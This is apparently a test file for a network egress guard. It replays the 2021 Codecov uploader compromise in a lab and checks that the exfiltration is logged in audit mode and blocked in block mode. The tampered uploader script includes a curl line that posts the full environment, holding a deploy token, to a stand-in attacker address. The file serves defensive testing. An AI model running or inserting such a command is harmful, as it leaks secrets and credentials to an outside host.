// docs/incidents/codecov.md
import t from 'tap'
import { addresses } from '../../lab/addresses.ts'
import { openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { itIsTold, itWasStopped, itWorked, replay, type Incident } from './replay.ts'

t.setTimeout(120_000)

const thief = addresses.attacker.v4
const token = 'tidegate-replay-deploy-token'

/** The uploader as it was served: its own work, and one line more. The real one gave up after half a second. */
const uploader = `#!/bin/sh
curl -sS -m 10 -d "$(env)" http://${thief}/upload/v2 >/dev/null 2>&1 || true
curl -sS --fail -o /dev/null -d coverage=87 https://coverage.test/upload/v4
`

const incident: Incident<'build' | 'upload'> = {
  attacker: [],
  honest: ['coverage.test'],
  spoils: [token],
  policy: ['allow:', '  - GET coverage.test/bash', '  - POST coverage.test/upload/**', ''].join('\n'),
  env: { DEPLOY_TOKEN: token },
  steps: { build: 'true', upload: 'curl -sS --fail -o up.sh https://coverage.test/bash && sh up.sh' },
}

t.test('Codecov, 2021: an uploader that sends the environment to an address', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  await lab.origins.script('coverage.test', '/bash', { status: 200, body: uploader })
  await lab.origins.script('coverage.test', '/upload/v4', { status: 200, body: 'ok\n' })
  const told = { host: thief, port: 80, reason: 'address-literal', layer: 'http', exe: /\/curl$/, parent: /sh$/ }

  await t.test('in audit it is seen, named and attributed', async t => {
    const run = await replay(lab, incident, 'audit')
    await itWorked(t, lab, incident)
    itIsTold(t, run, { ...told, verdict: 'observe' })
    t.match(await lab.sink.requests(), [{ method: 'POST', path: '/upload/v2' }])
  })
  await t.test('in block it is stopped, and the upload still works', async t => {
    const run = await replay(lab, incident, 'block')
    await itWasStopped(t, lab, incident)
    itIsTold(t, run, { ...told, verdict: 'deny' })
    t.equal(run.step('upload').exitCode, 0, run.step('upload').stderr)
    t.match(await lab.origins.requests({ path: '/upload/v4' }), [{ method: 'POST', complete: true }])
  })
})
